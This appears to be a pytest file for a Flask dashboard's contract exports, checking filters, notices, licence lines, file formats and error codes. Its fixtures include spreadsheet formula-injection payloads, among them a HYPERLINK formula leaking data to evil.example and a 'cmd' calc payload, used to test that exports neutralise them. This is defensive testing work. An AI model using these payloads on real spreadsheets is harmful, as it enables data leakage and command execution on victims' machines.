"""Exports through Flask's test client: exact rows, notices, licence, injection, formats, errors."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import openpyxl
import pytest
from members import member_client

from app import create_app
from dashboard import db, exports
from dashboard.logic import contracts
from dashboard.queries import contracts as q
from dashboard.views import EXPORTS

BRENT = "E09000005"
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "\tTAB=1",
    "\rCR=1",
]


@pytest.fixture(autouse=True)
def _close_connections():
    yield
    db.close_all()


def split_csv(response) -> tuple[list[str], list[str], list[list[str]]]:
    """(notice lines, header, rows) of a CSV export."""
    text = response.get_data().decode("utf-8-sig")
    lines = text.split("\r\n")
    notes = []
    while lines and lines[0].startswith('"# '):  # notice lines come first, one quoted cell each
        (cell,) = next(csv.reader([lines.pop(0)]))
        notes.append(cell)
    table = list(csv.reader(io.StringIO("\r\n".join(lines), newline="")))
    return notes, table[0], table[1:]


@pytest.fixture(scope="module")
def sample_client(sample_build):
    path, _ = sample_build
    return member_client(create_app(path)), path


def test_csv_export_of_a_borough_has_exactly_that_boroughs_rows(sample_client):
    client, path = sample_client
    response = client.get(f"/export/contracts.csv?borough={BRENT}")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    notes, header, rows = split_csv(response)
    id_col = header.index("Contract id")
    with db.cursor(path) as c:
        expected = [
            cid
            for (cid,) in c.execute(
                "SELECT contract_id FROM contracts WHERE borough_code = ? ORDER BY end_date NULLS LAST, contract_id",
                [BRENT],
            ).fetchall()
        ]
    assert [r[id_col] for r in rows] == expected  # the same rows, in the view's (default) order
    assert {r[header.index("Borough")] for r in rows} == {"Brent"}
    assert "# Filters: Borough: Brent" in notes


def test_export_follows_the_views_sort(sample_client):
    client, path = sample_client
    _, header, rows = split_csv(client.get("/export/contracts.csv?sort=-annual_value,supplier"))
    with db.cursor(path) as c:
        view = list(q.contracts_rows(c, {}, q.parse_sort("-annual_value,supplier")))
    assert [r[header.index("Contract id")] for r in rows] == [r["contract_id"] for r in view]
    assert len(rows) == len(view) > 500  # the whole filtered set, not one page


def test_csv_notices_name_view_filters_and_as_of_date(sample_client):
    client, _ = sample_client
    notes, header, _ = split_csv(
        client.get(f"/export/contracts.csv?borough={BRENT}&borough=E09000007&source=survey&end_from=2026-01-01")
    )
    assert notes[0] == "# View: contracts"
    assert notes[1] == ("# Filters: Borough: Brent, Camden; Contract end from: 2026-01-01; Source: survey records")
    assert any(re.fullmatch(r"# Data as of: \d{4}-\d{2}-\d{2}", n) for n in notes)
    assert any(n.startswith("# Warning: Sample data") for n in notes)  # the sample says so
    assert not any("Open Government Licence" in n for n in notes)  # the sample is all survey data
    assert header[:3] == ["Borough", "Buyer", "Supplier"]


def test_unfiltered_export_says_so(sample_client):
    notes, _, _ = split_csv(sample_client[0].get("/export/contracts.csv"))
    assert notes[1].startswith("# Filters: none")


def test_ignored_parameters_are_listed(sample_client):
    notes, _, rows = split_csv(sample_client[0].get("/export/contracts.csv?borough=E09000099"))
    assert any(n.startswith("# Ignored: Borough:") for n in notes)
    assert len(rows) > 500


def test_licence_line_when_open_data_is_included(tiny_db):
    client = create_app(tiny_db).server.test_client()
    notes, _, rows = split_csv(client.get("/export/contracts.csv"))
    assert f"# Licence: {exports.OGL}" in notes
    assert len(rows) == 4
    notes, _, rows = split_csv(client.get("/export/contracts.csv?borough=E09000001"))  # survey only
    assert not any("Licence" in n for n in notes)
    assert len(rows) == 1


def test_filename_and_attachment(tiny_db):
    client = create_app(tiny_db).server.test_client()
    today = date.today().isoformat()
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/export/contracts.{fmt}")
        assert response.headers["Content-Disposition"] == f'attachment; filename="citytools-contracts-{today}.{fmt}"'


def test_unknown_view_or_format_is_404(tiny_db):
    client = create_app(tiny_db).server.test_client()
    assert client.get("/export/nope.csv").status_code == 404
    assert client.get("/export/contracts.pdf").status_code == 404


def test_missing_database_is_503(tmp_path):
    client = create_app(tmp_path / "none.duckdb").server.test_client()
    assert client.get("/export/contracts.csv").status_code == 503
    assert client.get("/export/contracts.xlsx").status_code == 503


def test_values_are_typed_in_csv(tiny_db):
    _, header, rows = split_csv(create_app(tiny_db).server.test_client().get("/export/contracts.csv?borough=E09000002"))
    (row,) = rows
    assert row[header.index("Annual value (£)")] == "250000"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row[header.index("End")])
    assert row[header.index("Sources")] == "contracts_finder, survey"
    assert row[header.index("Records")] == "survey: survey.xlsx#r-bd-survey; contracts_finder: notices.csv#r-bd-cf"


def test_xlsx_has_data_and_about_sheets(tiny_db, tmp_path):
    response = (
        create_app(tiny_db).server.test_client().get("/export/contracts.xlsx?borough=E09000002&borough=E09000003")
    )
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    assert book.sheetnames == ["Contracts", "About"]
    data = list(book["Contracts"].iter_rows(values_only=True))
    header, rows = data[0], data[1:]
    assert len(rows) == 3
    assert {r[header.index("Borough")] for r in rows} == {"Barking and Dagenham", "Barnet"}
    bd = next(r for r in rows if r[header.index("Borough")] == "Barking and Dagenham")
    assert bd[header.index("Annual value (£)")] == 250_000  # a number, not text
    assert bd[header.index("End")].year >= date.today().year  # a date
    about = dict(book["About"].iter_rows(values_only=True))
    assert about["View"] == "contracts"
    assert about["Filters"] == "Borough: Barking and Dagenham, Barnet"
    assert about["Data as of"] == "2026-03-01"
    assert about["Licence"] == exports.OGL


@pytest.fixture
def injection_db(tmp_path, contracts_db_builder):
    specs = [{"supplier_name": text, "title": text, "buyer_name": "Camden Council"} for text in INJECTIONS]
    specs.append({"supplier_name": "Plain Ltd", "title": "Plain", "annual_value": -5.0})
    return contracts_db_builder(tmp_path / "inject.duckdb", specs)


def test_csv_neutralises_formula_cells(injection_db):
    client = create_app(injection_db).server.test_client()
    _, header, rows = split_csv(client.get("/export/contracts.csv"))
    suppliers = [r[header.index("Supplier")] for r in rows]
    titles = [r[header.index("Title")] for r in rows]
    for text in INJECTIONS:
        assert "'" + text in suppliers and "'" + text in titles
        assert text not in suppliers
    assert "Plain Ltd" in suppliers
    assert "-5" in [r[header.index("Annual value (£)")] for r in rows]  # a negative number stays a number


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_csv_notice_line_is_one_cell_in_every_delimiter(injection_db, delimiter):
    client = create_app(injection_db).server.test_client()
    hostile = ["=1+2", "x,=cmd|' /C calc'!A0", 'x","=HYPERLINK(""http://evil.example"")', "a;=1|=3"]
    response = client.get("/export/contracts.csv", query_string={"supplier": hostile})
    notes, _, rows = split_csv(response)
    assert rows == []
    filters_line = next(n for n in notes if n.startswith("# Filters:"))
    assert all(h in filters_line for h in hostile)  # the values are said, whole
    raw = [line for line in response.get_data().decode("utf-8-sig").split("\r\n") if line.startswith('"# ')]
    assert len(raw) == len(notes)
    for line in raw:
        (cell,) = next(csv.reader([line], delimiter=delimiter))  # one cell, whatever the delimiter
        assert cell.startswith("# ")


def test_xlsx_neutralises_formula_cells_and_writes_no_formulas(injection_db):
    client = create_app(injection_db).server.test_client()
    response = client.get("/export/contracts.xlsx", query_string={"supplier": "@SUM(1)"})
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = book["Contracts"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    header = [c.value for c in sheet[1]]
    (row,) = list(sheet.iter_rows(min_row=2, values_only=True))
    assert row[header.index("Supplier")] == "'@SUM(1)"
    about = dict(book["About"].iter_rows(values_only=True))
    assert about["Filters"] == "Supplier: @SUM(1)"  # starts with "Supplier", so nothing to neutralise
    assert not [c for row in book["About"].iter_rows() for c in row if c.data_type == "f"]

    all_rows = openpyxl.load_workbook(io.BytesIO(client.get("/export/contracts.xlsx").get_data()))["Contracts"]
    # openpyxl leaves Excel's escape for a carriage return as it is; Excel reads it as \r
    cells = [c.value for row in all_rows.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    values = [v.replace("_x000D_", "\r") for v in cells]
    for text in INJECTIONS:
        assert "'" + text in values


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_neutralise(value, expected):
    assert exports.neutralise(value) == expected


def test_csv_cells_keep_numbers_and_dates_typed():
    assert exports.csv_cell(-3.5) == -3.5
    assert exports.csv_cell(46500.0) == 46500
    assert exports.csv_cell(date(2026, 1, 2)) == "2026-01-02"
    assert exports.csv_cell(None) == ""
    assert exports.csv_cell(True) == "yes"


def test_registry_keeps_views_table_functions():
    assert EXPORTS["contracts"] is contracts.contracts_table
